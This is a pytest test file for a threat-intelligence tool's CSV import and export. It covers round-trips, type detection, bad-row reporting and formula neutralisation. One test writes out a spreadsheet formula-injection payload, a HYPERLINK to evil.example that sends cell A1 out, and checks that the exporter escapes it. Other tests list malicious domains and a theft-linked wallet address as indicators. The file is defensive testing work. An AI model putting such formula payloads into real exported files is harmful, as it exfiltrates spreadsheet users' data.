"""Our CSV: the whole bundled store round-trips; a hand-written minimal CSV imports; bad rows are named."""

from __future__ import annotations

from pathlib import Path

import pytest

from heistguard.errors import BadInput
from heistguard.intel.exchange import ExportFormat, export_data, export_text, import_batch, read_intel_file
from heistguard.intel.exchange.csv_format import COLUMNS
from heistguard.intel.store import IntelStore
from tests.intel.exchange_support import assert_same_intel


def test_bundled_store_round_trips_through_csv(store: IntelStore, tmp_path: Path) -> None:
    path = tmp_path / "intel.csv"
    text = export_text(export_data(store), ExportFormat.CSV)
    assert text.splitlines()[0] == ",".join(COLUMNS)
    path.write_text(text)
    with IntelStore.open(tmp_path / "fresh.duckdb") as fresh:
        fmt, batch = read_intel_file(path, fresh)
        assert fmt == "csv" and not batch.skipped
        import_batch(fresh, batch)
        assert_same_intel(store, fresh)


def test_minimal_csv_detects_types_and_reports_bad_rows(store: IntelStore, tmp_path: Path) -> None:
    path = tmp_path / "peer-list.csv"
    path.write_text(
        "value,category,actor\n"
        "0x51E9d833Ecae4E8D9D8Be17300AEE6D3398C135D,attributed-theft,Jade Sleet\n"
        "hxxps://akamaicontainer[.]com/,,\n"
        "59e1edf4d82fae4978e97512b0331b7eb21dd4b838b850ba46794d9c7a2c0983,,\n"
        "0x51E9d833Ecae4E8D9D8Be17300AEE6D3398C135d,theft,\n"
    )
    _, batch = read_intel_file(path, store)
    kinds = {r.type: r for r in batch.records}
    assert set(kinds) == {"address", "url", "sha256"}
    assert kinds["address"].actor == "TraderTraitor"  # Jade Sleet is its alias
    assert kinds["url"].value == "https://akamaicontainer.com/" and kinds["url"].category == "malware"
    assert {r.source_id for r in batch.records} == {"peer-list"}
    (problem,) = batch.skipped
    assert problem.startswith(f"{path}:5:") and "EIP-55" in problem


def test_unknown_columns_are_bad_input(store: IntelStore, tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    path.write_text("type,value,colour\ndomain,example.com,red\n")
    with pytest.raises(BadInput, match="unknown CSV columns"):
        read_intel_file(path, store)


def test_formulas_are_neutralised_for_spreadsheets_and_round_trip(tmp_path: Path) -> None:
    from tests.intel.exchange_support import TEST_SOURCE, record

    hostile = '=HYPERLINK("https://evil.example/?"&A1,"details")'
    with IntelStore.open(tmp_path / "a.duckdb") as store:
        with store.transaction():
            store.add_records(TEST_SOURCE, [record("evil.example", "domain", "phishing", description=hostile)])
        text = export_text(export_data(store), ExportFormat.CSV)
        assert "'=HYPERLINK(" in text and ",=HYPERLINK(" not in text
        path = tmp_path / "out.csv"
        path.write_text(text)
        with IntelStore.open(tmp_path / "b.duckdb") as again:
            _, batch = read_intel_file(path, again)
            import_batch(again, batch)
            assert_same_intel(store, again)


def test_semicolon_csv_with_only_a_value_column(store: IntelStore, tmp_path: Path) -> None:
    path = tmp_path / "iocs.csv"
    path.write_text("value;comment_free\n", encoding="utf-8")
    with pytest.raises(BadInput, match="unknown CSV columns"):
        read_intel_file(path, store)
    path.write_text("value;category\nmsstorageboxes.com;c2\n0x51E9d833Ecae4E8D9D8Be17300AEE6D3398C135D;\n")
    _, batch = read_intel_file(path, store)
    assert {(r.type, r.category) for r in batch.records} == {("domain", "c2"), ("address", "theft")}
    only = tmp_path / "only.csv"
    only.write_text("value\nakamaicontainer.com\n")
    assert [r.value for r in read_intel_file(only, store)[1].records] == ["akamaicontainer.com"]
